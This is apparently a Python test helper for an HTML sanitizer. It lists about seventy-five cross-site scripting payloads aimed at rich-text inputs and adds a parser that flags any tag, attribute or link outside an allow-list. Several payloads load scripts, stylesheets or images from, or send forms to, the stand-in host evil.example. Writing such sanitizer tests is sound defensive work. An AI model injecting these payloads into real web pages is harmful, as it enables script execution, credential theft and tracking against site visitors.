"""HTML that wants to run: PAYLOADS for every door that takes rich text, and `faults` that reads what came through.

What a payload would do, if it ran, is call `alert`, or set `window.pwned`; a browser test can listen for both.
"""

from html.parser import HTMLParser

from common.richtext import ATTRIBUTES, CLASSES, TAGS

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    '<img src="https://evil.example/spy.gif">',
    '<img src="//evil.example/spy.gif">',
    '<img src="/media/../admin/logout/">',
    '<img src="/media//evil.example/x.png">',
    '<img srcset="https://evil.example/x 1x" src="/media/a.png" onload=alert(1)>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\t/evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example\\x">x</a>',
    '<a href="https:evil.example">x</a>',
    '<a href="https:\\\\evil.example">x</a>',
    '<a href="#" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=1>x</a>',
    '<a href="https://example.gov.vn/" target="_blank" rel="opener" ping="https://evil.example/">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=https://evil.example/><button formaction=javascript:alert(1)>x</button><input type=password name=p></form>",
    "<base href=https://evil.example/><a href='login'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:red}</style>",
    "<p style=\"background:url('https://evil.example/spy.gif')\">x</p>",
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999" class="masthead ta-center">x</p>',
    '<p style="text-align:center;behavior:url(#x);-moz-binding:url(x)">x</p>',
    "<body onload=alert(1)><p>x</p></body>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus><option>x</select>",
    "<p id=admin name=cookie data-search contenteditable onbeforeinput=alert(1)>x</p>",
    "<div draggable=true ondragstart=alert(1) is=x-y slot=z>x</div>",
    "<table background=javascript:alert(1)><tr><td background=//evil.example/x>x</td></tr></table>",
    "<th abbr=x onmouseover=alert(1) colspan='1 onclick=alert(1)'>x</th>",
    "<b <script>alert(1)</script>>x</b>",
    "<p>\u0338<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */"
    "oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
]


class _Reader(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.faults = []

    def handle_starttag(self, tag, attrs):
        allowed = ATTRIBUTES.get(tag, set()) | {"class"} | ({"rel"} if tag == "a" else set())
        if tag not in TAGS:
            self.faults.append(tag)
        for name, value in attrs:
            value = value or ""
            if name not in allowed or (name == "class" and not set(value.split()) <= CLASSES):
                self.faults.append(f"{tag} {name}={value}")
            if name == "src" and not (value.startswith(("/media/", "/static/")) and ".." not in value and "//" not in value):
                self.faults.append(f"{tag} src={value}")
            if name == "href" and not _is_plain_link(value):
                self.faults.append(f"{tag} href={value}")

    def handle_comment(self, data):
        self.faults.append(f"comment {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def _is_plain_link(value):
    if any(ord(char) < 33 for char in value) or "\\" in value:
        return False
    if value.startswith(("#", "mailto:", "tel:")) or (value.startswith("/") and not value.startswith("//")):
        return True
    scheme, _, rest = value.partition("://")
    return scheme.lower() in {"http", "https"} and bool(rest) and rest[0] not in "/?#"


def faults(html):
    """What a browser could act on: every element and attribute outside the allow-list, as read by a parser."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults
